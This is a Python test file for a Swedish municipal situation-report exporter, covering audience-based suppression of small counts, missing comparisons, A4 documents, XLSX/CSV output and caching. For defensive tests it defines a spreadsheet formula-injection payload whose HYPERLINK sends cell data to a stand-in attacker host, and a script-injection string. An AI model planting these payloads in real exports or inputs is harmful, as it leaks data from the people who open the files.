"""Lägesbild exports people can trust: audiences, "saknas", A4, XLSX, safe cells, the cache."""

import csv
import io
from datetime import date

import pytest
from docx import Document
from openpyxl import load_workbook

from est import format as sv
from est.lagesbild import build_lagesbild, render
from est.lagesbild.cache import LagesbildCache
from est.lagesbild.render import to_markdown
from est.lagesbild.suppress import SECONDARY, SMALL, Hidden
from est.models import Action
from est.promises.draft import draft_promise
from tests.integration.test_lagesbild import END, START, at, fixture_reports, row  # noqa: F401

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
SCRIPT = "<script>alert(1)</script>"


def build(db_session, **kw):
    kw = {"area_code": "1861", "start": START, "end": END, "today": date(2025, 6, 1),
          "hotspots": False, **kw}
    return build_lagesbild(db_session, **kw)


@pytest.fixture
def evil_action(db_session, fixture_reports, category, make_organisation):  # noqa: F811
    """An action whose title is a spreadsheet formula and whose place is HTML."""
    org = make_organisation("Hallsbergs kommun", "kommun", area=fixture_reports)
    action = Action(area_id=fixture_reports.id, category_id=category("klotter").id,
                    title=EVIL, place_name=SCRIPT, organisation_id=org.id,
                    starts_on=date(2025, 4, 1), status="in_progress")
    db_session.add(action)
    db_session.flush()
    return action


def hidden(table) -> list[Hidden]:
    return [v for r in table.rows for v in r if isinstance(v, Hidden)]


def test_audience_decides_what_is_hidden(db_session, fixture_reports):  # noqa: F811
    internal = build(db_session, audience="internal")
    assert row(internal.table("by_month"), "Narkotika")[2:] == [0, 3, 3]
    assert not any(hidden(t) for s in internal.sections for t in s.tables)
    assert "Internt underlag" in internal.subtitle
    partner = build(db_session, audience="partner")
    months = partner.table("by_month")
    assert row(months, "Narkotika")[2:] == [0, SMALL, SMALL]
    assert row(months, "Summa händelser")[2:] == [11, 14, 25]  # sums stay exact
    assert SECONDARY not in hidden(months)
    public = build(db_session, audience="public")
    assert row(public.table("by_month"), "Narkotika")[2:] == [0, SMALL, SMALL]
    assert SECONDARY in hidden(public.table("by_month"))  # a sum would reveal the 3
    for lb in (internal, partner, public):  # the map follows the spatial rule for everyone
        counts = [f["properties"]["count"] for f in lb.geojson["features"]]
        assert counts and min(counts) >= lb.min_cell
    with pytest.raises(Exception) as exc:
        build(db_session, audience="alla")
    assert "audience" in exc.value.errors


def test_missing_comparison_is_saknas_not_zero(db_session, fixture_reports):  # noqa: F811
    # The area's first report is 2024-03-05: nothing exists a period or a year before.
    lb = build(db_session, start=date(2024, 3, 1), end=date(2024, 4, 30))
    compare = lb.table("compare")
    assert row(compare, "Klotter")[2:] == [8, "saknas", None, "saknas", None]
    assert row(compare, "Totalt")[2:] == [13, "saknas", None, "saknas", None]
    assert lb.facts.previous_total is None and lb.facts.last_year_total is None
    assert "| Klotter | Händelser | 8 | saknas | – | saknas | – |" in to_markdown(lb)
    draft = render(draft_promise(lb, period_start=date(2024, 5, 1),
                                 period_end=date(2025, 4, 30)), "md").decode()
    assert "registrerades 13 rapporter om händelser och otrygga platser." in draft
    assert ("Uppgift för föregående period och samma period året innan saknas: det finns "
            "inga rapporter att jämföra med.") in draft.replace("\n", " ")
    assert "året innan 0" not in draft and "föregående period 0" not in draft
    # With data a year back the comparison is a number again.
    lb = build(db_session)
    assert row(lb.table("compare"), "Klotter")[5] == 8 and lb.facts.last_year_total == 13


def test_every_docx_is_a4(db_session, fixture_reports):  # noqa: F811
    lb = build(db_session)
    draft = draft_promise(lb, period_start=date(2025, 5, 1), period_end=date(2026, 4, 30))
    for doc in (lb, draft):
        d = Document(io.BytesIO(render(doc, "docx")))
        assert d.sections
        for section in d.sections:
            assert (round(section.page_width.cm, 1), round(section.page_height.cm, 1)) == \
                (21.0, 29.7)


def test_swedish_conventions_in_documents(db_session, fixture_reports, make_report):  # noqa: F811
    for _ in range(3):  # 1 234 is a long way; check the formatter reaches the tables instead
        make_report(15.1122, 59.0651, code="klotter", occurred_at=at(2025, 3, 12),
                    area=fixture_reports)
    lb = build(db_session, audience="internal")
    md = to_markdown(lb)
    assert "| Kategori | Typ | mar 2025 | apr 2025 | Summa |" in md
    assert f"Lägesbilden omfattar Hallsberg (1861) 2025-03-01 – 2025-04-30 ({sv.number(61)} " \
           "dagar)" in md
    assert "## Hot spots (brännpunkter)" in md
    quality = dict(lb.table("quality").rows)
    assert quality["Andel utan exakt tidpunkt (tidsfönster eller okänd)"] == "6 %"  # 2 / 33
    html = render(lb, "html").decode()
    assert "<td>Klotter</td><td>Händelser</td><td class=\"num\">9</td>" in html


def test_xlsx_holds_every_table_with_numbers(db_session, fixture_reports,  # noqa: F811
                                             evil_action):
    lb = build(db_session)
    wb = load_workbook(io.BytesIO(render(lb, "xlsx")))
    tables = [t for s in lb.sections for t in s.tables]
    assert len(wb.sheetnames) == 1 + len(tables) and wb.sheetnames[0] == "Om"
    def sheet(prefix):
        return wb[next(n for n in wb.sheetnames if n.startswith(prefix))]

    compare = sheet("Jämförelse med föregående")
    cells = [[c.value for c in r] for r in compare.iter_rows()]
    klotter = next(r for r in cells if r[0] == "Klotter")
    assert klotter[:7] == ["Klotter", "Händelser", 12, 10, "+20 %", 8, "+50 %"]
    narkotika = next(r for r in sheet("Rapporter per kategori").iter_rows(values_only=True)
                     if r[0] == "Narkotika")
    assert narkotika[2:5] == (0, "<5", "<5")
    actions = wb["Åtgärder"]
    titles = [c for r in actions.iter_rows() for c in r if c.value == EVIL]
    assert titles and all(c.data_type == "s" for c in titles)
    assert not any(c.data_type == "f" for ws in wb for r in ws.iter_rows() for c in r)


def test_action_title_cannot_become_a_formula_or_html(db_session, evil_action):
    lb = build(db_session)
    text = render(lb, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    action_rows = [r for r in rows if r[5] == "Åtgärder"]
    assert action_rows and {r[6] for r in action_rows} == {"'" + EVIL}
    assert not any(cell.startswith(("=", "+", "-", "@")) and cell[1:2].isalpha()
                   for r in rows for cell in r)
    md = render(lb, "md").decode()
    assert SCRIPT not in md and "\\<script\\>alert(1)\\</script\\>" in md
    html = render(lb, "html").decode()
    assert SCRIPT not in html and "&lt;script&gt;" in html


def test_cache_serves_a_repeat_and_a_second_format(db_session, fixture_reports,  # noqa: F811
                                                   tmp_path, make_report):
    cache = LagesbildCache(tmp_path / "cache")
    args = {"area_code": "1861", "start": START, "end": END, "today": date(2025, 6, 1),
            "hotspots": False, "audience": "public"}
    first = cache.build(db_session, **args)
    stored = list((tmp_path / "cache").glob("*.json"))
    assert len(stored) == 1
    again = cache.build(db_session, **args)
    assert to_markdown(again) == to_markdown(first)
    assert again.table("by_month").rows == first.table("by_month").rows  # Hidden survives
    assert again.sections[1].charts[0].png == first.sections[1].charts[0].png
    pdf = cache.render(db_session, "pdf", render, **args)
    pdf_again = cache.render(db_session, "pdf", render, **args)
    assert pdf_again == pdf and pdf.startswith(b"%PDF")
    assert len(list((tmp_path / "cache").glob("*"))) == 2  # one build, one PDF
    # Another audience, or new data, is another entry with other numbers.
    internal = cache.build(db_session, **{**args, "audience": "internal"})
    assert row(internal.table("by_month"), "Narkotika")[-1] == 3
    make_report(15.1122, 59.0651, code="klotter", occurred_at=at(2025, 3, 12),
                area=fixture_reports)
    fresh = cache.build(db_session, **args)
    assert row(fresh.table("by_month"), "Totalt")[-1] == 31
    assert len(list((tmp_path / "cache").glob("*.json"))) == 3
